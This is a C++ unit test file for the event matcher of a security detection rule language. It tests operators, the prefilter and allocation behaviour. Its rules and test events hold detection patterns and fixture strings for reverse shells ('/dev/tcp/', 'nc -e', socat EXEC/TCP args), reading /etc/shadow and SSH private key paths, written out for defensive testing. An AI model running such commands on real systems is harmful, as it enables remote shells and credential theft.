// The matcher: every predicate operation and modifier as the language
// defines it, list and missing fields, selections, the prefilter (which
// must never change a result), and no allocation per event once warm.
#include <atomic>
#include <cstdlib>
#include <new>
#include <optional>
#include <random>

#include <gtest/gtest.h>

#include "runtime/match/event.h"
#include "runtime/match/event_json.h"
#include "runtime/match/matcher.h"
#include "tests/unit/test_util.h"

// Counts allocations while `g_counting` is set. Replacing the global
// operator new affects the whole test binary; outside the counted
// stretches it only forwards to malloc. GCC sees the replaced delete
// inlined next to a new and takes the pair for malloc/delete.
#if defined(__GNUC__) && !defined(__clang__)
#pragma GCC diagnostic ignored "-Wmismatched-new-delete"
#endif
namespace {
std::atomic<bool> g_counting{false};
std::atomic<size_t> g_allocations{0};
} // namespace

void* operator new(std::size_t n) {
  if (g_counting.load(std::memory_order_relaxed)) {
    g_allocations.fetch_add(1, std::memory_order_relaxed);
  }
  if (void* p = std::malloc(n == 0 ? 1 : n)) {
    return p;
  }
  throw std::bad_alloc();
}
void* operator new[](std::size_t n) {
  return ::operator new(n);
}
void operator delete(void* p) noexcept {
  std::free(p);
}
void operator delete[](void* p) noexcept {
  std::free(p);
}
void operator delete(void* p, std::size_t) noexcept {
  std::free(p);
}
void operator delete[](void* p, std::size_t) noexcept {
  std::free(p);
}

namespace sg::testing {
namespace {

using match::Event;
using match::Matcher;

// A pack compiled through the real pass list, with matchers over it, with
// and without the prefilter.
class Compiled {
public:
  explicit Compiled(const std::string& text) {
    TempDir dir;
    Compilation c;
    c.inputs = {dir.write("rules.sg", text)};
    c.check.today = "2026-06-01";
    run_passes(c);
    for (const Diagnostic& d : c.diags.sorted(c.program.sources)) {
      if (d.severity == Severity::Error) {
        diags_ += render_text(d, c.program.sources);
      }
    }
    if (c.diags.errors() > 0) {
      return;
    }
    std::string error;
    pack_ = pack::Pack::load(c.pack, error);
    diags_ += error;
    if (pack_) {
      fast_.emplace(*pack_);
      slow_.emplace(*pack_, match::MatcherOptions{false});
    }
  }

  bool ok() const { return pack_.has_value(); }
  const std::string& diags() const { return diags_; }
  const pack::Pack& pack() const { return *pack_; }
  Matcher& matcher() { return *fast_; }

  // The ids of the rules that fire, in order; checks that the matcher
  // without prefilter agrees, selections included.
  std::vector<std::string> fire(const Event& e) {
    std::vector<match::Match> fast;
    std::vector<match::Match> slow;
    EXPECT_TRUE(fast_->match(e, fast));
    EXPECT_TRUE(slow_->match(e, slow));
    std::vector<std::string> ids;
    EXPECT_EQ(fast.size(), slow.size());
    for (size_t i = 0; i < fast.size(); ++i) {
      ids.emplace_back(pack_->str(pack_->rules()[fast[i].rule].id));
      if (i < slow.size()) {
        EXPECT_EQ(fast[i].rule, slow[i].rule);
        auto a = fast_->selections(fast[i]);
        auto b = slow_->selections(slow[i]);
        EXPECT_TRUE(std::equal(a.begin(), a.end(), b.begin(), b.end()));
      }
    }
    return ids;
  }

  bool fires(const std::string& json) {
    Event e;
    std::string err = match::parse_event(json, e);
    EXPECT_EQ(err, "") << json;
    return !fire(e).empty();
  }

private:
  std::string diags_;
  std::optional<pack::Pack> pack_;
  std::optional<Matcher> fast_;
  std::optional<Matcher> slow_;
};

// One rule `r` of `kind` with one selection `s` holding `test`.
std::string one_rule(const std::string& kind, const std::string& test,
                     const std::string& condition = "s") {
  return "rule r {\n  id \"r-1\"\n  title \"t\"\n  level low\n  event " + kind +
         "\n  select s: " + test + "\n  condition: " + condition + "\n}\n";
}

// A test rule on `field`, and events that must and must not fire it.
struct Case {
  std::string kind;
  std::string test;
  std::vector<std::string> hit; // JSON field text, without the kind
  std::vector<std::string> miss;
};

void check(const Case& c) {
  Compiled p(one_rule(c.kind, c.test));
  ASSERT_TRUE(p.ok()) << c.test << "\n" << p.diags();
  auto json = [&](const std::string& fields) {
    return "{\"kind\":\"" + c.kind + "\"" +
           (fields.empty() ? "" : "," + fields) + "}";
  };
  for (const std::string& h : c.hit) {
    EXPECT_TRUE(p.fires(json(h))) << c.test << " should hold for " << h;
  }
  for (const std::string& m : c.miss) {
    EXPECT_FALSE(p.fires(json(m))) << c.test << " should fail for " << m;
  }
}

TEST(Matcher, StringEquality) {
  check({"exec",
         R"(proc.exe in ["/usr/bin/a", "/usr/bin/b"])",
         {R"("proc.exe":"/usr/bin/a")", R"("proc.exe":"/usr/bin/b")"},
         {R"("proc.exe":"/usr/bin/A")", R"("proc.exe":"/usr/bin/c")",
          R"("proc.exe":"/usr/bin/a ")", R"("proc.exe":"")", ""}});
  check({"exec",
         R"(proc.name == nocase "BaSh")",
         {R"("proc.name":"bash")", R"("proc.name":"BASH")"},
         {R"("proc.name":"bas")", R"("proc.name":"bashh")"}});
}

TEST(Matcher, SubstringsPrefixesSuffixes) {
  check({"exec",
         R"(proc.cmdline contains ["/dev/tcp/", "nc -e"])",
         {R"("proc.cmdline":"bash -i >& /dev/tcp/1.2.3.4/80")",
          R"("proc.cmdline":"nc -e /bin/sh")"},
         {R"("proc.cmdline":"/DEV/TCP/")", R"("proc.cmdline":"/dev/tc")"}});
  check({"exec",
         R"(proc.exe startswith "/tmp/")",
         {R"("proc.exe":"/tmp/x")", R"("proc.exe":"/tmp/")"},
         {R"("proc.exe":"/var/tmp/x")", R"("proc.exe":"/tmp")",
          R"("proc.exe":"/TMP/x")"}});
  check({"exec",
         R"(proc.exe endswith nocase ".SH")",
         {R"("proc.exe":"/a/b.sh")", R"("proc.exe":"/a/B.Sh")"},
         {R"("proc.exe":"/a/b.shx")", R"("proc.exe":"sh")"}});
  check({"exec",
         R"(proc.cmdline contains nocase "PowerShell")",
         {R"("proc.cmdline":"x powershell -enc")",
          R"("proc.cmdline":"POWERSHELL")"},
         {R"("proc.cmdline":"power shell")"}});
}

TEST(Matcher, AllNeedsEveryLiteral) {
  check({"exec",
         R"(proc.cmdline contains all ["curl", " -o "])",
         {R"("proc.cmdline":"curl -o /tmp/x http://h")"},
         {R"("proc.cmdline":"curl http://h")", R"("proc.cmdline":" -o x")"}});
  check({"exec",
         R"(proc.cmdline startswith all nocase ["SU", "sud"])",
         {R"("proc.cmdline":"Sudo -i")"},
         {R"("proc.cmdline":"su -")"}});
  check({"exec",
         R"(proc.exe like all ["/usr/*", "*/bin/?s"])",
         {R"("proc.exe":"/usr/bin/ls")"},
         {R"("proc.exe":"/usr/sbin/cat")", R"("proc.exe":"/opt/bin/ls")"}});
}

TEST(Matcher, ListFields) {
  // Any element; with all, every literal by some element.
  check({"exec",
         R"(proc.args startswith all nocase ["exec:", "tcp"])",
         {R"("proc.args":["EXEC:/bin/bash -li","TCP:203.0.113.7:4444"])"},
         {R"("proc.args":["TCP-LISTEN:8080,fork","TCP:10.0.0.5:80"])",
          R"("proc.args":[])", ""}});
  check({"exec",
         R"(proc.args in ["-c", "--command"])",
         {R"("proc.args":["x","-c"])", R"("proc.args":["--command"])"},
         {R"("proc.args":["-C"])", R"("proc.args":[])"}});
  check({"exec",
         R"(ancestors.exe contains "/sshd")",
         {R"("ancestors.exe":["/usr/bin/bash","/usr/sbin/sshd"])"},
         {R"("ancestors.exe":["/usr/bin/bash"])", ""}});
  check({"exec",
         R"(ancestors.name matches nocase "^CRON$")",
         {R"("ancestors.name":["bash","cron"])"},
         {R"("ancestors.name":["crond"])"}});
}

TEST(Matcher, MissingFieldsMakeEveryTestFalse) {
  check({"exec",
         R"(parent.name == "sshd")",
         {R"("parent.name":"sshd")"},
         {"", R"("proc.name":"sshd")"}});
  // Its negation is true for an event without the field.
  Compiled p(one_rule("exec", R"(parent.name == "sshd")", "not s"));
  ASSERT_TRUE(p.ok()) << p.diags();
  EXPECT_TRUE(p.fires(R"({"kind":"exec"})"));
  EXPECT_FALSE(p.fires(R"({"kind":"exec","parent.name":"sshd"})"));
  check({"net.connect", R"(net.dport > 0)", {R"("net.dport":1)"}, {""}});
  check({"net.connect",
         R"(net.daddr cidr "0.0.0.0/0")",
         {R"("net.daddr":"1.2.3.4")"},
         {""}});
}

TEST(Matcher, GlobsWithEscapes) {
  check({"file.open",
         R"(file.path like "/tmp/*.s?")",
         {R"("file.path":"/tmp/x.so")", R"("file.path":"/tmp/a/b.sh")",
          R"("file.path":"/tmp/.s.")"},
         {R"("file.path":"/tmp/x.s")", R"("file.path":"/tmp/x.sox")",
          R"("file.path":"/var/tmp/x.so")"}});
  // "\\*" in the source is the pattern \*: a literal star.
  check({"exec",
         R"(proc.cmdline like "a\\*b*")",
         {R"("proc.cmdline":"a*b")", R"("proc.cmdline":"a*bcd")"},
         {R"("proc.cmdline":"ab")", R"("proc.cmdline":"axb")"}});
  check({"exec",
         R"(proc.cmdline like "*x\\?y*")",
         {R"("proc.cmdline":"1x?y2")"},
         {R"("proc.cmdline":"1xzy2")"}});
  check({"exec",
         R"(proc.exe like nocase "/usr/*/PY*3")",
         {R"("proc.exe":"/usr/bin/python3")",
          R"("proc.exe":"/usr/local/bin/Py3")"},
         {R"("proc.exe":"/usr/python3")", R"("proc.exe":"/usr/bin/python")"}});
  // `*` alone holds for any value, even an empty one.
  check({"exec",
         R"(proc.tty like "*")",
         {R"("proc.tty":"")", R"("proc.tty":"pts/0")"},
         {""}});
}

TEST(Matcher, RegularExpressions) {
  check({"exec",
         R"(proc.cmdline matches "curl\\s+-[a-z]*o")",
         {R"("proc.cmdline":"x; curl  -so f")"},
         {R"("proc.cmdline":"curl -S")", R"("proc.cmdline":"CURL -o")"}});
  // Under nocase, RE2 folds k to the Kelvin sign U+212A and s to the
  // long s U+017F; the prefilter must not lose those matches.
  check({"exec",
         R"(proc.cmdline matches nocase "kill -9")",
         {R"("proc.cmdline":"KILL -9 1")",
          "\"proc.cmdline\":\"\xE2\x84\xAAill -9 1\""},
         {R"("proc.cmdline":"kil -9")"}});
  check({"exec",
         R"(proc.cmdline matches nocase "ssh-agent")",
         {"\"proc.cmdline\":\"\xC5\xBFsh-agent\""},
         {R"("proc.cmdline":"sh-agent")"}});
  check({"exec",
         R"(proc.cmdline matches "(?i)ssh-agent")",
         {"\"proc.cmdline\":\"\xC5\xBFSH-AGENT\""},
         {}});
  check({"exec",
         R"(proc.cmdline matches nocase "^powershell$")",
         {R"("proc.cmdline":"PowerShell")"},
         {R"("proc.cmdline":"powershell -enc")"}});
}

TEST(Matcher, AddressesAndNetworks) {
  check({"net.connect",
         R"(net.daddr cidr ["10.0.0.0/8", "fd00::/8"])",
         {R"("net.daddr":"10.1.2.3")", R"("net.daddr":"fd12::1")",
          R"("net.daddr":"::ffff:10.0.0.1")"},
         {R"("net.daddr":"11.0.0.1")", R"("net.daddr":"fe80::1")",
          R"("net.daddr":"::a00:1")"}});
  // An IPv4 network holds no IPv6 address.
  check({"net.connect",
         R"(net.daddr cidr "0.0.0.0/0")",
         {R"("net.daddr":"255.255.255.255")"},
         {R"("net.daddr":"2001:db8::1")", R"("net.daddr":"::")"}});
  check({"net.connect",
         R"(net.daddr cidr "::/0")",
         {R"("net.daddr":"2001:db8::1")", R"("net.daddr":"1.2.3.4")"},
         {}});
  check({"net.connect",
         R"(net.daddr in ["192.0.2.1", "2001:db8::7"])",
         {R"("net.daddr":"192.0.2.1")", R"("net.daddr":"2001:db8:0::7")"},
         {R"("net.daddr":"192.0.2.2")", R"("net.daddr":"2001:db8::8")"}});
}

TEST(Matcher, NumbersEnumsBooleans) {
  check({"exec",
         "proc.uid < 1000",
         {R"("proc.uid":999)", R"("proc.uid":-5)"},
         {R"("proc.uid":1000)"}});
  check({"exec",
         "proc.uid <= 1000",
         {R"("proc.uid":1000)"},
         {R"("proc.uid":1001)"}});
  check({"exec", "proc.uid > 0", {R"("proc.uid":1)"}, {R"("proc.uid":0)"}});
  check({"exec", "proc.uid >= 0", {R"("proc.uid":0)"}, {R"("proc.uid":-1)"}});
  check({"exec",
         "proc.loginuid == -1",
         {R"("proc.loginuid":-1)"},
         {R"("proc.loginuid":0)"}});
  check({"exec",
         "proc.uid in [0, 7, 1000]",
         {R"("proc.uid":0)", R"("proc.uid":7)", R"("proc.uid":1000)"},
         {R"("proc.uid":8)"}});
  check({"exec",
         "proc.exe_memfd == true",
         {R"("proc.exe_memfd":true)"},
         {R"("proc.exe_memfd":false)", ""}});
  check({"net.connect",
         "net.protocol in [tcp, udp]",
         {R"("net.protocol":"tcp")", R"("net.protocol":"udp")"},
         {R"("net.protocol":"icmp")"}});
}

TEST(Matcher, FlagsAnyAndAll) {
  check({"file.open",
         "file.flags has [write, create]",
         {R"("file.flags":["write"])", R"("file.flags":["read","create"])"},
         {R"("file.flags":["read"])", R"("file.flags":[])"}});
  check({"file.open",
         "file.flags has all [write, create]",
         {R"("file.flags":["write","create","trunc"])"},
         {R"("file.flags":["write"])", R"("file.flags":["create"])"}});
}

TEST(Matcher, ConditionsAndExceptions) {
  std::string text = R"(rule r {
  id "r-1"
  title "t"
  level low
  tags [site.x]
  event exec
  select a: proc.name == "a"
  select b: proc.uid == 0
  select c: proc.cmdline contains "-c"
  condition: a and (b or c) and not proc.exe startswith "/usr/"
}

exception quiet {
  tag site.x
  reason "r"
  when: user.name == "deploy"
}
)";
  Compiled p(text);
  ASSERT_TRUE(p.ok()) << p.diags();
  EXPECT_TRUE(p.fires(R"({"kind":"exec","proc.name":"a","proc.uid":0})"));
  EXPECT_TRUE(
      p.fires(R"({"kind":"exec","proc.name":"a","proc.cmdline":"sh -c"})"));
  EXPECT_FALSE(p.fires(R"({"kind":"exec","proc.name":"a","proc.uid":1})"));
  EXPECT_FALSE(p.fires(
      R"({"kind":"exec","proc.name":"a","proc.uid":0,"proc.exe":"/usr/x"})"));
  EXPECT_FALSE(p.fires(
      R"({"kind":"exec","proc.name":"a","proc.uid":0,"user.name":"deploy"})"));
}

TEST(Matcher, ReportsTheSelectionsThatHold) {
  Compiled p(one_rule("exec",
                      "proc.name == \"a\"\n  select t: proc.uid == 0\n"
                      "  select u: proc.cmdline contains \"-c\"",
                      "s and (t or u)"));
  ASSERT_TRUE(p.ok()) << p.diags();
  Event e;
  ASSERT_EQ(match::parse_event(
                R"({"kind":"exec","proc.name":"a","proc.cmdline":"sh -c"})", e),
            "");
  std::vector<match::Match> out;
  ASSERT_TRUE(p.matcher().match(e, out));
  ASSERT_EQ(out.size(), 1U);
  auto held = p.matcher().selections(out[0]);
  EXPECT_EQ(std::vector<uint32_t>(held.begin(), held.end()),
            (std::vector<uint32_t>{0, 2}));
  // evaluate() explains a rule that does not fire, too.
  ASSERT_EQ(match::parse_event(R"({"kind":"exec","proc.uid":0})", e), "");
  std::vector<uint32_t> sels;
  EXPECT_FALSE(p.matcher().evaluate(e, 0, sels));
  EXPECT_EQ(sels, (std::vector<uint32_t>{1}));
}

TEST(Matcher, FiresInPackOrderAcrossKinds) {
  std::string text;
  // Lowering orders rules by id: r-a, r-b, r-c.
  for (std::string id : {"r-c", "r-a", "r-b"}) {
    text += "rule rule_" + id.substr(2) + " {\n  id \"" + id +
            "\"\n  title \"t\"\n  level low\n  event [file.unlink, "
            "file.rename]\n  select s: file.path startswith \"/var/log/\"\n"
            "  condition: s\n}\n";
  }
  Compiled p(text);
  ASSERT_TRUE(p.ok()) << p.diags();
  Event e;
  for (std::string kind : {"file.unlink", "file.rename"}) {
    ASSERT_EQ(match::parse_event(
                  R"({"kind":")" + kind + R"(","file.path":"/var/log/x"})", e),
              "");
    EXPECT_EQ(p.fire(e), (std::vector<std::string>{"r-a", "r-b", "r-c"}));
  }
  ASSERT_EQ(match::parse_event(R"({"kind":"file.open",)"
                               R"("file.path":"/var/log/x"})",
                               e),
            "");
  EXPECT_TRUE(p.fire(e).empty());
}

TEST(Matcher, GuardsAreFoundAndNeverTrueRulesSkipped) {
  std::string text = one_rule("exec", R"(proc.exe in [])") +
                     "rule g {\n  id \"r-2\"\n  title \"t\"\n  level low\n"
                     "  event exec\n  select a: proc.exe endswith \"/nc\"\n"
                     "  select b: proc.cmdline contains \" -e \"\n"
                     "  condition: a or b\n}\n" +
                     "rule n {\n  id \"r-3\"\n  title \"t\"\n  level low\n"
                     "  event exec\n  select a: proc.uid == 0\n"
                     "  condition: not a\n}\n";
  Compiled p(text);
  ASSERT_TRUE(p.ok()) << p.diags();
  EXPECT_EQ(p.matcher().stats().rules, 3U);
  EXPECT_EQ(p.matcher().stats().never, 1U);
  EXPECT_EQ(p.matcher().stats().guarded, 1U);
  EXPECT_EQ(p.matcher().stats().always, 1U);
  EXPECT_TRUE(p.fires(R"({"kind":"exec","proc.exe":"/bin/nc","proc.uid":0})"));
  EXPECT_TRUE(
      p.fires(R"({"kind":"exec","proc.cmdline":"x -e y","proc.uid":0})"));
}

// Random rules and events: the prefilter never changes what fires, nor
// which selections are reported.
TEST(Matcher, PrefilterChangesNothing) {
  std::mt19937 rng(7);
  auto pick = [&](const std::vector<std::string>& v) {
    return v[rng() % v.size()];
  };
  const std::vector<std::string> words = {
      "/usr/bin/", "/tmp/",     "curl", "sh",     "/etc/",
      "shadow",    "X",         ".so",  "python", "-c",
      "Cron",      "/dev/shm/", "a",    "ssh",    "/home/"};
  const std::vector<std::string> ops = {"==",       "contains", "startswith",
                                        "endswith", "like",     "matches"};
  const std::vector<std::string> fields = {"proc.exe",  "proc.cmdline",
                                           "file.path", "proc.name",
                                           "proc.args", "parent.exe"};
  auto test = [&] {
    std::string f = pick(fields);
    std::string op = pick(ops);
    std::string mod = rng() % 3 == 0 ? " nocase" : "";
    std::string v = pick(words);
    if (op == "like") {
      v = (rng() % 2 != 0 ? "*" : "") + v + "*" + pick(words);
    }
    if (op == "matches") {
      // Anchors, alternations, classes, inline flags and the letters
      // that fold beyond ASCII under nocase.
      static const std::vector<std::string> kRegexes = {
          "^/usr/bin/", "(curl|wget) +-", "[a-c]sh$", "^/tmp/.*\\\\.so$",
          "Ssh",        "(?i)python",     "x{2,}",    "K[a-z]",
          "cron|CRON",  "/sh(a|o)"};
      v = rng() % 2 != 0 ? "^" + v : pick(kRegexes);
    }
    if (op == "==" || rng() % 3 != 0) {
      return f + " " + op + mod + " \"" + v + "\"";
    }
    return f + " " + op + (rng() % 2 != 0 ? " all" : "") + mod + " [\"" + v +
           "\", \"" + pick(words) + "\"]";
  };
  std::string text;
  for (int i = 0; i < 300; ++i) {
    std::string n = std::to_string(i);
    text += "rule r" + n + " {\n  id \"r-" + n +
            "\"\n  title \"t\"\n  level low\n  event file.open\n"
            "  select a: " +
            test() + "\n  select b: " + test() + "\n  select c: " + test() +
            "\n  condition: " +
            pick({"a and b", "a or b", "a and not b", "(a or b) and c",
                  "1 of them", "all of them", "a"}) +
            "\n}\n";
  }
  Compiled p(text);
  ASSERT_TRUE(p.ok()) << p.diags();
  EXPECT_GT(p.matcher().stats().guarded, 100U);
  size_t fired = 0;
  for (int i = 0; i < 3000; ++i) {
    Event e(schema::Kind::FileOpen);
    std::vector<std::string> strings;
    for (int k = 0; k < 8; ++k) {
      std::string s = pick(words) + pick(words);
      if (rng() % 2 != 0) {
        s += pick(words);
      }
      if (rng() % 4 == 0) {
        for (char& ch : s) {
          ch = char(std::toupper(uint8_t(ch)));
        }
      }
      strings.push_back(s);
    }
    e.set_string(match::fid::ProcExe, strings[0]);
    e.set_string(match::fid::ProcCmdline, strings[1]);
    e.set_string(match::fid::FilePath, strings[2]);
    e.set_string(match::fid::ProcName, strings[3]);
    if (rng() % 2 != 0) {
      e.set_string(match::fid::ParentExe, strings[4]);
    }
    e.begin_list(match::fid::ProcArgs);
    for (int k = 5; k < 8; ++k) {
      e.add_item(strings[size_t(k)]);
    }
    fired += p.fire(e).size();
  }
  EXPECT_GT(fired, 1000U); // the comparison saw rules fire
}

// The same for numbers, enums, booleans and addresses.
TEST(Matcher, PrefilterChangesNothingOnNumbersAndAddresses) {
  std::mt19937 rng(11);
  auto pick = [&](const std::vector<std::string>& v) {
    return v[rng() % v.size()];
  };
  const std::vector<std::string> tests = {
      R"(net.daddr cidr ["10.0.0.0/8", "fd00::/8"])",
      R"(net.daddr cidr "10.1.0.0/16")",
      R"(net.daddr cidr ["10.0.0.0/8", "10.1.0.0/16", "192.0.2.0/28"])",
      R"(net.daddr in ["10.1.2.3", "2001:db8::1"])",
      R"(net.daddr == "192.0.2.7")",
      R"(net.saddr cidr "0.0.0.0/0")",
      "net.dport in [22, 443, 4444]",
      "net.dport == 4444",
      "net.dport > 1024",
      "net.protocol == udp",
      "net.protocol in [tcp, udp]",
      "proc.uid == 0",
      "proc.exe_memfd == true",
      R"(proc.exe startswith "/tmp/")",
  };
  std::string text;
  for (int i = 0; i < 200; ++i) {
    std::string n = std::to_string(i);
    text += "rule r" + n + " {\n  id \"r-" + n +
            "\"\n  title \"t\"\n  level low\n  event net.connect\n"
            "  select a: " +
            pick(tests) + "\n  select b: " + pick(tests) + "\n  condition: " +
            pick({"a and b", "a or b", "a and not b", "a"}) + "\n}\n";
  }
  Compiled p(text);
  ASSERT_TRUE(p.ok()) << p.diags();
  EXPECT_GT(p.matcher().stats().guarded, 100U);
  const std::vector<std::string> addrs = {
      "10.1.2.3", "10.1.9.9", "10.200.0.1",  "192.0.2.7", "192.0.2.8",
      "fd00::1",  "fe80::1",  "2001:db8::1", "8.8.8.8",   "::ffff:10.1.0.5"};
  size_t fired = 0;
  for (int i = 0; i < 3000; ++i) {
    Event e(schema::Kind::NetConnect);
    if (rng() % 5 != 0) {
      e.set_ip(match::fid::NetDaddr, *parse_ip(pick(addrs)));
    }
    if (rng() % 2 != 0) {
      e.set_ip(match::fid::NetSaddr, *parse_ip(pick(addrs)));
    }
    if (rng() % 5 != 0) {
      const int64_t ports[] = {22, 80, 443, 4444, 8080, 1024};
      e.set_int(match::fid::NetDport, ports[rng() % 6]);
    }
    e.set_int(match::fid::NetProtocol, rng() % 2 != 0 ? 6 : 17);
    e.set_int(match::fid::ProcUid, rng() % 2 != 0 ? 0 : 1000);
    e.set_bool(match::fid::ProcExeMemfd, rng() % 4 == 0);
    e.copy_string(match::fid::ProcExe, rng() % 2 != 0 ? "/tmp/x" : "/bin/x");
    fired += p.fire(e).size();
  }
  EXPECT_GT(fired, 1000U);
}

TEST(Event, SlotsArenaAndReset) {
  Event e(schema::Kind::Exec);
  std::string text = "/usr/bin/cat";
  e.set_string(match::fid::ProcExe, text);
  e.copy_string(match::fid::ProcCmdline, "cat /etc/shadow");
  e.set_int(match::fid::ProcPid, 42);
  e.begin_list(match::fid::ProcArgs);
  e.copy_item("/etc/shadow");
  e.add_item("-n");
  // The arena may move as it grows; copied values stay readable.
  for (int i = 0; i < 100; ++i) {
    e.copy_string(match::fid::UserName, std::string(100, char('a' + i % 26)));
  }
  EXPECT_EQ(e.get_string(match::fid::ProcExe), "/usr/bin/cat");
  EXPECT_EQ(e.get_string(match::fid::ProcCmdline), "cat /etc/shadow");
  EXPECT_EQ(e.get_int(match::fid::ProcPid), 42);
  ASSERT_EQ(e.list_size(match::fid::ProcArgs), 2U);
  EXPECT_EQ(e.list_item(match::fid::ProcArgs, 0), "/etc/shadow");
  EXPECT_EQ(e.list_item(match::fid::ProcArgs, 1), "-n");
  // A getter of another type reads as missing.
  EXPECT_EQ(e.get_int(match::fid::ProcExe), 0);
  EXPECT_EQ(e.get_string(match::fid::ProcPid), "");
  EXPECT_FALSE(e.has(match::fid::ParentExe));
  e.reset(schema::Kind::FileOpen);
  EXPECT_FALSE(e.has(match::fid::ProcExe));
  EXPECT_EQ(e.kind(), schema::Kind::FileOpen);
  EXPECT_EQ(Event::field_id("file.path"), match::fid::FilePath);
  EXPECT_EQ(Event::field_id("no.such"), 0);
}

TEST(Matcher, NoAllocationPerEventOnceWarm) {
  std::string text;
  const char* tests[] = {
      R"(proc.exe in ["/usr/bin/curl", "/usr/bin/wget"])",
      R"(proc.cmdline contains nocase "/DEV/TCP/")",
      R"(file.path like "/home/*/.ssh/id_*")",
      R"(proc.cmdline matches "^(ba|da)?sh -c")",
      R"(proc.args startswith all nocase ["exec:", "TCP"])",
      R"(ancestors.exe endswith nocase "/SSHD")",
      R"(net.daddr cidr ["10.0.0.0/8", "fd00::/8"])",
      R"(file.flags has [write, create])",
      R"(file.path startswith ["/etc/cron.d/", "/etc/systemd/"])",
      R"(proc.name == "python3")",
  };
  int i = 0;
  for (const char* t : tests) {
    std::string n = std::to_string(i++);
    std::string kind = std::string(t).starts_with("file.")  ? "file.open"
                       : std::string(t).starts_with("net.") ? "net.connect"
                                                            : "exec";
    text += "rule r" + n + " {\n  id \"r-" + n +
            "\"\n  title \"t\"\n  level low\n  event " + kind +
            "\n  select s: " + t + "\n  condition: s\n}\n";
  }
  Compiled p(text);
  ASSERT_TRUE(p.ok()) << p.diags();
  // The values of each event, kept apart from the event so that building
  // the event is part of the counted work.
  struct Spec {
    schema::Kind kind;
    std::string exe, cmdline, path, arg;
    uint64_t flags;
  };
  std::vector<Spec> specs = {
      {schema::Kind::Exec, "/usr/bin/curl", "bash -i >& /dev/tcp/1.2.3.4/9", "",
       "EXEC:/bin/sh", 0},
      {schema::Kind::Exec, "/usr/bin/python3", "sh -c id", "", "tcp:1", 0},
      {schema::Kind::FileOpen, "/usr/bin/cat", "cat", "/home/alice/.ssh/id_rsa",
       "x", 3},
      {schema::Kind::FileOpen, "/usr/bin/vi", "vi",
       "/etc/cron.d/job-with-a-rather-long-name", "y", 4},
      {schema::Kind::NetConnect, "/usr/bin/ssh", "ssh host", "", "host", 0},
  };
  Event e;
  std::vector<match::Match> out;
  size_t fired = 0;
  auto one = [&](const Spec& s) {
    e.reset(s.kind);
    e.copy_string(match::fid::ProcExe, s.exe);
    e.copy_string(match::fid::ProcCmdline, s.cmdline);
    e.copy_string(match::fid::ProcName, "python3");
    e.begin_list(match::fid::ProcArgs);
    e.copy_item(s.arg);
    e.copy_item("--verbose");
    e.begin_list(match::fid::AncestorsExe);
    e.copy_item("/usr/sbin/sshd");
    if (s.kind == schema::Kind::FileOpen) {
      e.copy_string(match::fid::FilePath, s.path);
      e.set_flags(match::fid::FileFlags, s.flags);
    }
    if (s.kind == schema::Kind::NetConnect) {
      e.set_ip(match::fid::NetDaddr, *parse_ip("10.9.8.7"));
    }
    out.clear();
    EXPECT_TRUE(p.matcher().match(e, out));
    fired += out.size();
  };
  for (int warm = 0; warm < 3; ++warm) {
    for (const Spec& s : specs) {
      one(s);
    }
  }
  fired = 0;
  g_allocations = 0;
  g_counting = true;
  for (int round = 0; round < 2000; ++round) {
    for (const Spec& s : specs) {
      one(s);
    }
  }
  g_counting = false;
  EXPECT_EQ(g_allocations.load(), 0U);
  EXPECT_GT(fired, 2000U * 5); // every event fired rules
  // The counter works: an allocation in a counted stretch is seen.
  g_counting = true;
  auto* probe = new std::vector<int>(100);
  g_counting = false;
  delete probe;
  EXPECT_GE(g_allocations.load(), 1U);
}

} // namespace
} // namespace sg::testing
